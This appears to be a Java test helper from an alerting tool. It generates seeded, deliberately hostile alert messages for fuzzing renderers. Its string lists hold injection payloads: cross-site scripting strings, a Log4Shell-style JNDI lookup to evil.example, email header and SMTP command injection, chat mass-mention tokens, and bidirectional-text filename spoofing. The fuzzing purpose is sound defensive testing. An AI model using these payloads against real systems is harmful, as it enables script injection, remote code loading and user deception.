package io.tallyman.alert;

import io.tallyman.alert.Message.Action;
import io.tallyman.alert.Message.Line;
import io.tallyman.check.Severity;
import io.tallyman.check.Status;
import io.tallyman.incident.Change.Event;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.Random;
import java.util.stream.IntStream;

/** Messages that somebody made to do harm, or that are far too big; always the same for the same seed. */
final class Hostile {
    /** Longer than any limit of any receiver. */
    static final int HUGE = 1_000_000;

    private static final List<String> BITS = List.of(
            "<script>alert(1)</script>",
            "<img src=\"https://evil.example/x.png\" onerror='x'>",
            "</p></div></body></html>",
            "&amp;&lt;&#60;&",
            "<!channel> <!here> <!everyone> <@U012AB3CD> <#C012AB3CD>",
            "@channel @here",
            "<https://evil.example|Playbook>",
            "*bold* _under_ ~gone~ `code` ```block```",
            "{code}{noformat}{html}<b>{html} [x|http://evil.example] !http://evil.example/x.png! [~admin]",
            "\r\nBcc: everyone@example.com\r\n\r\nbody",
            "\n.\r\nQUIT\r\n",
            "\u202E\u2066reversed\u200F\u061C",
            "\u05E9\u05DC\u05D5\u05DD \u0645\u0631\u062D\u0628\u0627 123",
            "\u0000\u0007\u001B[31m\u009B\u007F",
            "\u200B\u2060\uFEFF\u00AD",
            "\u2028\u2029\u0085",
            "\uD83D\uDE00\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67\uD83C\uDDE9\uD83C\uDDEA",
            "\uD83D",
            "\uDE00\uD83D",
            "\uFFFE\uFFFF",
            "\uDB40\uDC41\uDB40\uDC42",
            "\"quoted\" \\ back\\slash 'single'",
            "Z\u0351\u0367\u0311a\u0350\u0342\u0307lgo",
            "javascript:alert(1)",
            "${jndi:ldap://evil.example/a} %s %n {}",
            "12.04%, expected <= 5%");

    private static final List<String> LINKS = List.of(
            "https://wiki.example.com/a?b=c&d=<e>",
            "https://wiki.example.com/a|b",
            "javascript:alert(1)",
            "data:text/html,<script>alert(1)</script>",
            "https://user:pass@evil.example/",
            "https://wiki.example.com/\u202Etxt.exe",
            "file:///srv/report.html",
            "https://wiki.example.com/x\"onmouseover=\"alert(1)",
            "https://wiki.example.com/" + "a".repeat(5_000),
            "not a link at all <b>");

    private final Random random;

    Hostile(long seed) {
        random = new Random(seed);
    }

    /** A message of as many lines, whose texts are hostile and at most so long. */
    Message message(int lines, int longest) {
        List<Line> all = new ArrayList<>();
        IntStream.range(0, lines).forEach(i -> all.add(line(longest)));
        return new Message(
                text(longest),
                pick(List.of(Action.values())),
                text(longest),
                Optional.of(text(longest)),
                Told.DATE,
                random.nextBoolean() ? "live" : text(longest),
                all,
                random.nextInt(4) == 0 ? Optional.empty() : Optional.of(link(longest)));
    }

    private Line line(int longest) {
        List<String> steps = new ArrayList<>();
        IntStream.range(0, random.nextInt(5)).forEach(i -> steps.add(text(longest)));
        String value = text(Math.min(longest, 50));
        return new Line(
                text(longest),
                text(longest),
                text(longest),
                pick(List.of(Event.values())),
                pick(List.of(Status.WARN, Status.FAIL, Status.ERROR)),
                pick(List.of(Severity.values())),
                value,
                text(longest),
                random.nextBoolean() ? text(longest) : value + text(longest),
                LocalDate.of(2026, 1, 1).plusDays(random.nextInt(300)),
                random.nextInt(400),
                text(longest),
                steps,
                random.nextInt(3) == 0 ? Optional.empty() : Optional.of(link(longest)));
    }

    /** At most so long; often empty, often one hostile bit over and over. */
    String text(int longest) {
        int length = random.nextInt(8) == 0 ? 0 : random.nextInt(longest) + 1;
        boolean same = random.nextInt(3) == 0;
        String bit = pick(BITS);
        StringBuilder text = new StringBuilder(length + 100);
        while (text.length() < length) {
            text.append(same ? bit : pick(BITS));
        }
        text.setLength(length);
        return text.toString();
    }

    private String link(int longest) {
        return random.nextInt(3) == 0 ? text(longest) : pick(LINKS);
    }

    private <T> T pick(List<T> list) {
        return list.get(random.nextInt(list.size()));
    }
}
